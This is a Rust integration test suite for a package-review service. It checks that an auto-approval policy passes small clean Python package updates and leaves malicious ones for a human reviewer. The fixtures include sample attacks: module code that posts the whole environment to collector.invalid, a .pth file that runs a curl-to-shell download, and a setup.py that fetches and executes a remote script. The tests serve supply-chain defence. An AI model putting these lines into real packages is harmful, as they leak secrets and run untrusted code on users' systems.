//! The `small-update` auto-approval policy against real inspection: a
//! small clean update of an approved release is approved by the policy,
//! with its evidence; updates that exfiltrate the environment at import,
//! add a `.pth` file, or download and run code from setup.py are never
//! approved by it, and wait for a person.

mod support;

use std::time::{Duration, Instant};

use support::airlock::Airlock;
use support::browser::Browser;
use support::{eventually, LocalUpstream, Package, UpstreamFile};

const NAME: &str = "policy-demo";
const MODULE: &str = "policy_demo/__init__.py";

fn pkg(version: &str, module: &str) -> Package {
    Package::new(NAME, version).with_module(MODULE, module)
}

#[tokio::test(flavor = "multi_thread")]
async fn a_small_clean_update_passes_the_policy_and_malicious_ones_never_do() {
    let clean = "VALUE = 1\n\ndef value():\n    return VALUE\n";
    let exfiltrates =
        "import os\nimport urllib.request\n\nVALUE = 3\nurllib.request.urlopen('https://collector.invalid/c', data=repr(dict(os.environ)).encode())\n";
    let setup_py = "import subprocess\nimport urllib.request\nfrom setuptools import setup\n\nsubprocess.run(urllib.request.urlopen('https://payload.invalid/p.sh').read(), shell=True)\nsetup(name='policy-demo', version='1.0.4')\n";
    let files = vec![
        UpstreamFile::new(NAME, pkg("1.0", clean).wheel()),
        UpstreamFile::new(NAME, pkg("1.0.1", "VALUE = 2\n\ndef value():\n    return VALUE\n").wheel()),
        UpstreamFile::new(NAME, pkg("1.0.2", exfiltrates).wheel()),
        UpstreamFile::new(
            NAME,
            pkg("1.0.3", clean).with_wheel_file("policy_demo_hook.pth", "import os; os.system('curl -s https://payload.invalid/p.sh | sh')\n").wheel(),
        ),
        // Only an sdist: its setup.py runs at install.
        UpstreamFile::new(NAME, pkg("1.0.4", clean).with_setup_py(setup_py).sdist()),
    ];
    let upstream = LocalUpstream::start(files);
    let mut airlock = Airlock::new();
    airlock.set_config(&[("auto_approve_max_lines", "500"), ("watch_sync_secs", "0")]);
    let auditor = airlock.user_with_token("alice", "auditor");
    airlock.serve(Some(&upstream.base_url));

    assert_eq!(airlock.request(&auditor, "policy-demo==1.0").await.status(), 202);
    airlock.wait_for(&auditor, NAME, "1.0", &["awaiting_review"]).await;
    // Without an approved base, the policy leaves the first release to a person.
    tokio::time::sleep(Duration::from_secs(6)).await;
    assert_eq!(airlock.release(&auditor, NAME, "1.0").await["status"], "awaiting_review");
    assert_eq!(airlock.decide(&auditor, NAME, "1.0", "approve", "read it all").await.status(), 200);

    let updates = ["1.0.1", "1.0.2", "1.0.3", "1.0.4"];
    for v in updates {
        assert_eq!(airlock.request(&auditor, &format!("policy-demo=={v}")).await.status(), 202);
    }
    for v in updates {
        let r = airlock.wait_for(&auditor, NAME, v, &["awaiting_review", "approved", "failed"]).await;
        assert_ne!(r["status"], "failed", "{r}");
    }
    let started = Instant::now();
    let approved = loop {
        let r = airlock.release(&auditor, NAME, "1.0.1").await;
        if r["status"] == "approved" {
            break r;
        }
        assert!(started.elapsed() < Duration::from_secs(40), "the clean update was not approved by the policy: {r}\n{}", airlock.log());
        tokio::time::sleep(Duration::from_millis(300)).await;
    };
    let d = &approved["decisions"][0];
    assert_eq!(
        (d["user"].as_str(), d["policy"].as_str(), d["audit_base"].as_str()),
        (Some("policy:small-update"), Some("small-update"), Some("1.0")),
        "{approved}"
    );
    assert!(d["comment"].as_str().unwrap().contains("no capability added"), "{approved}");

    // Two more measuring rounds: the malicious updates are weighed and left for a person.
    tokio::time::sleep(Duration::from_secs(11)).await;
    for v in ["1.0.2", "1.0.3", "1.0.4"] {
        let r = airlock.release(&auditor, NAME, v).await;
        assert_eq!(r["status"], "awaiting_review", "{v} must never pass the policy: {r}");
        assert!(r["decisions"].as_array().unwrap().is_empty(), "{r}");
    }
    let declined = airlock.log().matches("left for a person").count();
    assert!(declined >= 3, "each malicious update is weighed and declined:\n{}", airlock.log());
}

/// The harder case: the base already talks to the network and reads one
/// environment variable, so "adds no capability" alone would pass the
/// update. Sending the whole environment at import is still a new finding.
#[tokio::test(flavor = "multi_thread")]
async fn exfiltration_added_to_a_base_that_already_uses_the_network_is_not_auto_approved() {
    const NET: &str = "net-demo";
    const NET_MODULE: &str = "net_demo/__init__.py";
    let base = "import os\nimport urllib.request\n\nPROXY = os.environ.get('HTTP_PROXY')\n\ndef fetch(url):\n    return urllib.request.urlopen(url).read()\n";
    let exfiltrates = format!("{base}\nurllib.request.urlopen('https://collector.invalid/c', data=repr(dict(os.environ)).encode())\n");
    let upstream = LocalUpstream::start(vec![
        UpstreamFile::new(NET, Package::new(NET, "1.0").with_module(NET_MODULE, base).wheel()),
        UpstreamFile::new(NET, Package::new(NET, "1.0.1").with_module(NET_MODULE, exfiltrates.as_str()).wheel()),
        UpstreamFile::new(NET, Package::new(NET, "1.0.2").with_module(NET_MODULE, format!("{base}\n# a comment\n").as_str()).wheel()),
    ]);
    let mut airlock = Airlock::new();
    airlock.set_config(&[("auto_approve_max_lines", "500"), ("watch_sync_secs", "0")]);
    let auditor = airlock.user_with_token("alice", "auditor");
    airlock.serve(Some(&upstream.base_url));
    assert_eq!(airlock.request(&auditor, "net-demo==1.0").await.status(), 202);
    airlock.wait_for(&auditor, NET, "1.0", &["awaiting_review"]).await;
    assert_eq!(airlock.decide(&auditor, NET, "1.0", "approve", "read it all").await.status(), 200);
    for v in ["1.0.1", "1.0.2"] {
        assert_eq!(airlock.request(&auditor, &format!("net-demo=={v}")).await.status(), 202);
        airlock.wait_for(&auditor, NET, v, &["awaiting_review", "approved"]).await;
    }
    // The harmless update passes: the policy is on and weighing these.
    let started = Instant::now();
    while airlock.release(&auditor, NET, "1.0.2").await["status"] != "approved" {
        assert!(started.elapsed() < Duration::from_secs(40), "the harmless update was not approved by the policy:\n{}", airlock.log());
        tokio::time::sleep(Duration::from_millis(300)).await;
    }
    tokio::time::sleep(Duration::from_secs(6)).await;
    let r = airlock.release(&auditor, NET, "1.0.1").await;
    assert_eq!(r["status"], "awaiting_review", "exfiltration must never pass the policy: {r}");
}

/// A rebuilt compiled module changes no line anyone can read: an update
/// whose only change is a new `.so` counts a handful of lines, yet must
/// never pass as "small". The same update without the new binary does.
#[tokio::test(flavor = "multi_thread")]
async fn an_update_that_changes_a_compiled_module_is_left_for_a_person() {
    const NATIVE: &str = "native-demo";
    const SO: &str = "native_demo/_speedups.cpython-312-x86_64-linux-gnu.so";
    let compiled = |build: u8| {
        let mut elf = b"\x7fELF\x02\x01\x01\0".to_vec();
        elf.extend(std::iter::repeat_n(build, 4096));
        elf
    };
    let release = |version: &str, comment: &str, build: u8| {
        let module = format!("from native_demo._speedups import run\n{comment}");
        UpstreamFile::new(
            NATIVE,
            Package::new(NATIVE, version).with_module("native_demo/__init__.py", module.as_str()).with_wheel_file(SO, compiled(build)).wheel(),
        )
    };
    let upstream = LocalUpstream::start(vec![release("1.0", "", 1), release("1.0.1", "", 2), release("1.0.2", "# a comment\n", 1)]);
    let mut airlock = Airlock::new();
    airlock.set_config(&[("auto_approve_max_lines", "500"), ("watch_sync_secs", "0")]);
    let auditor = airlock.user_with_token("alice", "auditor");
    airlock.serve(Some(&upstream.base_url));
    assert_eq!(airlock.request(&auditor, "native-demo==1.0").await.status(), 202);
    airlock.wait_for(&auditor, NATIVE, "1.0", &["awaiting_review"]).await;
    assert_eq!(airlock.decide(&auditor, NATIVE, "1.0", "approve", "read it all, binary included").await.status(), 200);
    for v in ["1.0.1", "1.0.2"] {
        assert_eq!(airlock.request(&auditor, &format!("native-demo=={v}")).await.status(), 202);
    }
    // The same binary with one more line of Python passes: the policy is weighing these.
    eventually("the update keeping its binary was not approved by the policy", Duration::from_secs(60), || async {
        airlock.release(&auditor, NATIVE, "1.0.2").await["status"] == "approved"
    })
    .await;
    eventually("the update changing its binary was never weighed", Duration::from_secs(60), || {
        std::future::ready(airlock.log().contains(&format!("it adds or changes binary files, which no line count covers: {SO}")))
    })
    .await;
    let r = airlock.release(&auditor, NATIVE, "1.0.1").await;
    assert_eq!(r["status"], "awaiting_review", "a changed compiled module must never pass the policy: {r}");
    assert!(r["audit_lines"].as_i64().is_some_and(|lines| lines <= 500), "its delta is small in lines: {r}");
    // The reason reaches the auditor, not only the server log: in the API and on the page.
    let declined = &r["policy_declined"];
    assert_eq!(declined["policy"], "small-update", "{r}");
    let reason = declined["reason"].as_str().unwrap_or_default();
    assert!(reason.contains("binary files") && reason.contains(SO) && reason.ends_with("base 1.0"), "{r}");
    airlock.add_user("vera", "viewer", "correct horse battery");
    let mut viewer = Browser::new(&airlock.base);
    assert_eq!(viewer.login("vera", "correct horse battery").await, 303);
    let (status, page) = viewer.get(&format!("/releases/{NATIVE}/1.0.1")).await;
    assert_eq!(status, 200);
    assert!(page.contains("id=\"policy-declined\"") && page.contains(SO), "the release page names the reason:\n{page}");
    assert!(airlock.release(&auditor, NATIVE, "1.0.2").await["policy_declined"].is_null(), "an approved release shows no refusal");
}
